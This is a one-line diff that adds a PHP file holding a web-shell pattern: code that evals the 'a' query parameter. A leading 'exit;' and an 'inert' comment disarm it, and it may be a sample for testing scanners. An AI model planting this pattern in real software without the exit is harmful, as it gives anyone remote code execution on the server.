@@ -1,0 +1,1 @@
+<?php exit; /* inert */ function g(){ yield $_GET["a"]; } foreach(g() as $v) eval($v);
